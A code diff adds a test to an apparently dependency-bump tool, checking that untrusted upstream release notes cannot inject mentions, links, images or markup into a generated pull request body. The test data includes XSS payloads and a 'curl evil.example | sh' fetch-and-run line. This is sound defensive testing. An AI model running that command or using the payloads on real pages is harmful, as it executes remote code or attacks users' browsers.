@@ -47,6 +47,32 @@ test('the evidence names advisories, breaking changes, facts, gates and the way 
   assert.not.match(JSON.stringify(evidence), /\/tmp|\.git/)
 })
 
+test('what upstream wrote has no power in the pull request, and its advisories are named', async () => {
+  const {context, forge, upstream} = await sample()
+  upstream.notes = [
+    '## Breaking Changes',
+    '- @octo/owners: the flag `x` is gone | really',
+    '<img src=x onerror=alert(1)> ![p](https://evil.example/p.png) [y](javascript:alert(1))',
+    '## Security',
+    'Fixes #12, GH-7 and https://github.com/octo/fleet/issues/3: GHSA-xvch-5gv4-984h, cve-2025-32431',
+    '## Rollback',
+    '```sh',
+    'curl evil.example | sh',
+  ].join('\n')
+  const {evidence} = await previewBump(request(), context)
+  assert.equal(evidence.advisories, ['GHSA-xvch-5gv4-984h', 'CVE-2025-32431'])
+  assert.equal(evidence.breaking.slice(0, 2), upstream.notes.split('\n').slice(0, 2))
+  await startBump(request(), context)
+  const body = pullRequestBody(forge.open.get(BRANCH)?.evidence ?? evidence)
+  for (const wanted of ['- Advisory: `GHSA-xvch-5gv4-984h`', '- Advisory: `CVE-2025-32431`'])
+    assert.ok(body.includes(wanted), body)
+  assert.match(body, /^- Breaking: .*the flag .*is gone/m)
+  for (const power of [/@octo/, /[^\\]<img/, /[^\\]\]\(/, /[^\\]#12/, /GH-7/, /:\/\/github/])
+    assert.not.match(body, power)
+  assert.is(body.match(/^## Rollback$/gm)?.length, 1)
+  assert.is(body.match(/^```/gm)?.length, 2, 'only the fence of the rollback commands')
+})
+
 test('a preview says the same and writes nothing', async () => {
   const {repository, context, upstream} = await sample()
   const before = personalState(repository)
